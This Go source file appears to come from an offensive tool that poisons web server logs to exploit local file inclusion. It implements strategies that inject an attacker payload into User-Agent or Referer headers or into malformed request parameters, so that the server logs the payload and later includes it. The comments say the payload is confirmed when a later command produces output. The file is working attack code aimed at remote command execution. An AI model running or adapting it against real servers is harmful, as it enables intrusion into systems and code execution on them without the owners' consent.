package poison

import (
	"context"
	"errors"
	"fmt"

	"github.com/logpoison-tool/internal/config"
	"github.com/logpoison-tool/internal/logger"
	"github.com/logpoison-tool/internal/transport"
	"github.com/logpoison-tool/pkg/models"
	"github.com/logpoison-tool/pkg/utils"
)

// ErrUnknownMethod is returned by New for tags outside the known set
var ErrUnknownMethod = errors.New("unknown poisoning method")

// Strategy persists a payload into one class of log.
//
// Poison reports whether the request went through; it does not prove the
// payload landed in the log. That is only confirmed indirectly when a later
// command produces output.
type Strategy interface {
	Poison(ctx context.Context, target, param, logPath, payload string) bool
	Method() models.Method
}

// FieldInjection places the payload in a request header while including the
// log path, relying on the server logging that header verbatim
type FieldInjection struct {
	transport transport.Transport
	log       logger.Logger
	method    models.Method
	header    string
	defaultUA string
}

// Poison requests target?param=logPath with the payload in the header
func (f *FieldInjection) Poison(ctx context.Context, target, param, logPath, payload string) bool {
	poisonURL := utils.BuildInclusionURL(target, param, logPath)

	headers := map[string]string{f.header: payload}
	if f.header != "User-Agent" {
		headers["User-Agent"] = f.defaultUA
	}

	resp, err := f.transport.Get(ctx, poisonURL, headers)
	if err != nil {
		f.log.Debug("Poison request failed", "method", f.method, "header", f.header, "error", err)
		return false
	}

	f.log.Debug("Poison request sent", "method", f.method, "header", f.header, "status", resp.StatusCode)
	return resp.OK()
}

// Method returns the tag this strategy was built for
func (f *FieldInjection) Method() models.Method {
	return f.method
}

// Header returns the request header carrying the payload
func (f *FieldInjection) Header() string {
	return f.header
}

// MalformedRequest puts the escaped payload in the vulnerable parameter
// itself so the server's error handler logs the offending value
type MalformedRequest struct {
	transport transport.Transport
	log       logger.Logger
}

// Poison requests target?param=<escaped payload>. The status is ignored:
// the request is expected to fail on the server side.
func (m *MalformedRequest) Poison(ctx context.Context, target, param, logPath, payload string) bool {
	malformedURL := utils.BuildInclusionURL(target, param, utils.Quote(payload))

	resp, err := m.transport.Get(ctx, malformedURL, nil)
	if err != nil {
		m.log.Debug("Malformed request failed", "error", err)
		return false
	}

	m.log.Debug("Malformed request sent", "status", resp.StatusCode)
	return true
}

// Method returns the tag this strategy was built for
func (m *MalformedRequest) Method() models.Method {
	return models.MethodMalformedRequest
}

// New resolves a method tag to a Strategy. ssh_username, ftp_username and
// mail_field have no dedicated technique and resolve to User-Agent field
// injection; IsFallback reports those so the operator can be warned.
func New(method models.Method, t transport.Transport, cfg *config.Config, log logger.Logger) (Strategy, error) {
	switch method {
	case models.MethodUserAgent, models.MethodSSHUsername, models.MethodFTPUsername, models.MethodMailField:
		return &FieldInjection{
			transport: t,
			log:       log,
			method:    method,
			header:    "User-Agent",
			defaultUA: cfg.Exploit.DefaultUserAgent,
		}, nil
	case models.MethodReferer:
		return &FieldInjection{
			transport: t,
			log:       log,
			method:    method,
			header:    "Referer",
			defaultUA: cfg.Exploit.DefaultUserAgent,
		}, nil
	case models.MethodMalformedRequest:
		return &MalformedRequest{
			transport: t,
			log:       log,
		}, nil
	default:
		return nil, fmt.Errorf("%w: %s", ErrUnknownMethod, method)
	}
}

// IsFallback reports whether method resolves to an approximation rather than
// a technique built for that log format
func IsFallback(method models.Method) bool {
	switch method {
	case models.MethodSSHUsername, models.MethodFTPUsername, models.MethodMailField:
		return true
	}
	return false
}
